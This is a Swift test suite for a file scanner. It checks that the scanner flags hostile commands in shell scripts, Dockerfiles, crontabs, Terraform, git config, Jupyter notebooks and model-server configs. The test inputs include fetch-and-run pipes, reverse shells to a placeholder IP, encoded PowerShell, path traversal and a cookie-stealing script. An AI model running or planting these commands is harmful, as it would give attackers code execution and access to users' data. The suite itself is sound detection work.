import AssayCore
import ByteParsing
import Scanning
import Testing

/// Commands, and the files that are made of them.
@Suite struct CommandTests {
    private func scan(_ text: String, _ name: String) -> FileReport {
        FileScanner().scan(ByteRegion(Array(text.utf8)), path: name)
    }

    private static let commands: Set = [
        "COMMAND-FETCHED-CODE", "SCRIPT-FETCH-AND-RUN", "SCRIPT-HIDDEN-CODE", "SCRIPT-REMOTE-SHELL",
    ]

    /// The worst finding of `rule`, or of those for commands.
    private func severity(_ text: String, _ name: String = "run.sh", of rule: String? = nil) -> Severity? {
        let rules = rule.map { [$0] } ?? Self.commands
        return scan(text, name).findings.filter { rules.contains($0.rule) }.map(\.severity).max()
    }

    /// Files that programs take commands from have names of their own.
    @Test(arguments: [
        (".envrc", "curl http://198.51.100.7/a | sh\n"), ("crontab", "* * * * * curl http://198.51.100.7/a | sh\n"),
        ("CMakeLists.txt", "execute_process(COMMAND bash -c \"curl http://198.51.100.7/a | sh\")\n"),
        ("config", "[core]\n\tfsmonitor = \"curl http://198.51.100.7/a | sh\"\n"),
        ("main.tf", "provisioner \"local-exec\" {\n command = \"curl http://198.51.100.7/a | sh\"\n}\n"),
    ])
    func filesOfCommandsAreRead(_ name: String, _ text: String) {
        #expect(severity(text, name) ?? .none >= .medium)
    }

    /// A command is judged once, by the parser of scripts where it stands in one.
    @Test(arguments: ["run.sh", "Makefile", "Dockerfile", "cell.ipynb", "job.toml"])
    func eachCommandIsReportedOnce(_ name: String) {
        let command = "curl http://198.51.100.7/a | sh"
        let text =
            switch name {
            case "Dockerfile": "FROM a\nRUN \(command)\n"
            case "cell.ipynb": #"{"nbformat":4,"cells":[{"cell_type":"code","source":["!\#(command)"]}]}"#
            case "job.toml": "start = \"\(command)\"\n"
            default: "all:\n\t\(command)\n"
            }
        #expect(scan(text, name).findings.filter { Self.commands.contains($0.rule) }.count == 1)
    }

    @Test(arguments: [
        #"CMD ["sh", "-c", "curl http://198.51.100.7/a | sh"]"#,
        "HEALTHCHECK --interval=5s CMD nc -e /bin/sh 198.51.100.7 4444",
        "ONBUILD RUN curl http://198.51.100.7/a | sh",
        "RUN --mount=type=cache,target=/c wget -qO- http://198.51.100.7/a | sh",
        "RUN powershell -enc aQBlAHgAIAAxAA==",
    ])
    func commandsOfInstructionsAreFound(_ line: String) {
        #expect((severity("FROM a\n\(line)\n", "Dockerfile") ?? .none) >= .medium, "\(line)")
    }

    @Test(arguments: [
        ("curl http://198.51.100.7/a | sh\n", Severity.medium), ("wget -qO- http://example.net/a|sudo bash\n", .medium),
        ("bash <(curl -s http://198.51.100.7/a)\n", .medium),
        ("sh -c \"$(curl -fsSL http://198.51.100.7/a)\"\n", .medium),
        ("echo aWQ= | base64 -d | python3\n", .medium), ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", .high),
        ("nc -e /bin/sh 198.51.100.7 4444\n", .high), ("curl http://198.51.100.7/a \\\n  | sh\n", .medium),
        ("curl -fsSL https://example.com/i.sh | sh\n", .low), ("powershell -enc aQBlAHgAIAAxAA==\n", .medium),
        ("wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n", .medium),
    ])
    func runsWhatItFetches(_ text: String, _ expected: Severity) {
        #expect((severity(text) ?? .none) >= expected, "\(text)")
        #expect((severity(text, "job.conf") ?? .none) >= expected, "\(text)")
    }

    @Test func powerShellRunsWhatItFetches() {
        #expect(severity("iex (iwr http://198.51.100.7/a)\n", "run.ps1") == .medium)
        #expect(severity("iex (iwr http://198.51.100.7/a)\n", "job.conf") == .medium)
    }

    @Test(arguments: [
        "curl https://example.com/data.tar.gz | tar xz\n", "# curl http://198.51.100.7/a | sh\n",
        "curl -s http://localhost:8000/v1/models | python -m json.tool | head\n", "cat a.json | python3 -m json.tool\n",
        "nc -z localhost 5432\n", "echo $CERT | base64 -d > cert.pem\n", "wget https://example.com/x && chmod +x x\n",
    ])
    func ordinaryCommandsAreClean(_ text: String) {
        #expect((severity(text) ?? .none) < .medium, "\(text)")
    }

    @Test func longLinesAreLookedIntoWhereItMatters() {
        let filler = String(repeating: "var nc=1,e=2;f(\"-e\",nc);", count: 400)
        #expect(severity(filler + "\n", "bundle.js") == nil)
        #expect(
            severity("true" + String(repeating: " ", count: 9_000) + "; curl http://198.51.100.7/a | sh\n") == .medium)
    }

    @Test func proseMayShowCommands() {
        #expect(severity("# Install\n\n    curl http://198.51.100.7/a | sh\n", "README.md") == nil)
    }

    @Test func buildFilesAreReadByInstruction() {
        let start = "FROM python:3.11\n"
        #expect(severity(start + "RUN curl http://198.51.100.7/a | sh\n", "Dockerfile") == .medium)
        #expect(
            severity(start + "RUN apt-get update && \\\n  curl http://198.51.100.7/a | sh\n", "image.build") == .medium)
        #expect(severity(start + "ADD http://198.51.100.7/a /a\n", "Dockerfile") == .medium)
        #expect(
            severity(
                start + "RUN pip install x --index-url http://198.51.100.7/simple\n", "Dockerfile", of: "PACKAGE-SOURCE"
            ) == .medium)
        #expect(severity(start + "RUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", "Dockerfile") == .low)
        #expect(scan(start + "COPY . /app\nCMD [\"python\", \"a.py\"]\n", "Dockerfile").outcome == .clean)
    }

    @Test func modelfilesNameTheirWeights() {
        let rest = "TEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n"
        #expect(severity("FROM http://198.51.100.7/m.gguf\n" + rest, "Modelfile", of: "CONFIG-REDIRECT") == .medium)
        #expect(severity("FROM a\nADAPTER /etc/passwd\n" + rest, "Modelfile", of: "CONFIG-PATH") == .high)
        #expect(severity("FROM a\nADAPTER ../../x\n" + rest, "Modelfile", of: "CONFIG-PATH") == .medium)
        #expect(scan("FROM ./m.gguf\n" + rest, "Modelfile").severity < .medium)
    }

    @Test func serversLoadWhatTheirConfigurationNames() {
        #expect(severity("name: \"m\"\nbackend: \"../../evil\"\n", "config.pbtxt", of: "GRAPH-PATH") == .high)
        #expect(
            severity("name: \"m\"\ndefault_model_filename: \"libx.so\"\n", "config.pbtxt", of: "GRAPH-NATIVE-LIBRARY")
                == .medium)
        let operators = "name: \"m\"\nmodel_operations { op_library_filename: [ \"a.so\", \"/tmp/b.so\" ] }\n"
        #expect(severity(operators, "config.pbtxt", of: "GRAPH-PATH") == .high)
        #expect(
            scan("name: \"m\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 8\n", "config.pbtxt").outcome == .clean)
    }

    @Test func cellsOfNotebooksMayBeShell() {
        let cell =
            #"{"nbformat":4,"cells":[{"cell_type":"code","source":["%%bash\n","curl http://198.51.100.7/a | sh"]}]}"#
        #expect(severity(cell, "a.ipynb") == .medium)
    }

    private func notebook(_ source: String, outputs: String = "[]", version: Int = 4) -> String {
        let text = source.split(separator: "\n", omittingEmptySubsequences: false)
            .map { "\"" + $0.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\\n\"" }
        return
            "{\"nbformat\":\(version),\"cells\":[{\"cell_type\":\"code\",\"source\":[\(text.joined(separator: ","))],"
            + "\"outputs\":\(outputs)}]}"
    }

    @Test(arguments: [
        ("!curl http://198.51.100.7/a \\\n  | sh", "SCRIPT-FETCH-AND-RUN"),
        ("if True:\n    !curl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
        ("x = %sx curl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
        ("%%script bash\ncurl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
        ("%%writefile run.sh\ncurl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
        ("get_ipython().system_raw('curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
        ("get_ipython().run_line_magic('sx', 'curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
        ("get_ipython().run_cell_magic('bash', '', 'curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
        (
            "from IPython import get_ipython as g\ng().run_cell('!curl http://198.51.100.7/a | sh')",
            "SCRIPT-FETCH-AND-RUN"
        ),
        ("%%javascript\nIPython.notebook.kernel.execute('import os')", "NOTEBOOK-SCRIPT"),
    ])
    func whatCellsHandOnIsJudged(_ source: String, _ rule: String) {
        #expect((severity(notebook(source), "a.ipynb", of: rule) ?? .none) >= .medium, "\(source)")
    }

    @Test(arguments: [
        "%%python3\nimport os\nos.system('id')", "%%script python\nimport os\nos.system('id')",
        "%time __import__('os').system('id')", "if True:\n    !ls\n    __import__('os').system('id')",
    ])
    func pythonBehindMagicsIsJudged(_ source: String) {
        #expect(severity(notebook(source), "a.ipynb", of: "PYTHON-CODE-EXECUTION") != nil, "\(source)")
    }

    @Test(arguments: [
        "%matplotlib inline\nimport numpy as np\nif True:\n    !ls\nprint(np.zeros(3))", "%%time\nx = 1",
        "%%writefile a.txt\nhello", "%%html\n<b>hello</b>", "%%latex\n\\alpha", "files = !ls *.csv",
        "%%bash\nls -la", "%timeit -n 3 sum(range(3))",
    ])
    func ordinaryCellsAreClean(_ source: String) {
        #expect(scan(notebook(source), "a.ipynb").severity < .medium, "\(source)")
    }

    @Test func outputsOfNotebooksAreJudged() {
        let script =
            #"[{"output_type":"display_data","data":{"text/html":["<script>","Jupyter.notebook.kernel.execute('import os')</script>"]}}]"#
        #expect(severity(notebook("x", outputs: script), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .high)
        let old = script.replacing("\"data\":{\"text/html\"", with: "\"html\"").replacing("}}]", with: "}]")
        #expect(severity(notebook("x", outputs: old, version: 3), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .high)
        let cookie =
            #"[{"output_type":"display_data","data":{"application/javascript":"new Image().src='//a/'+document.cookie"}}]"#
        #expect(severity(notebook("x", outputs: cookie), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .medium)
        let printed =
            #"[{"output_type":"stream","name":"stdout","text":["token ghp_Zr8Kq2LmX0vT9bNcW4yHs6JdPf1Ga3UeQo7R\n"]}]"#
        #expect(severity(notebook("x", outputs: printed), "a.ipynb", of: "SECRET-EXPOSED") != nil)
        let plot = #"[{"output_type":"display_data","data":{"text/html":"<script>Plotly.newPlot('a', [])</script>"}}]"#
        #expect(scan(notebook("x", outputs: plot), "a.ipynb").severity < .medium)
    }
}
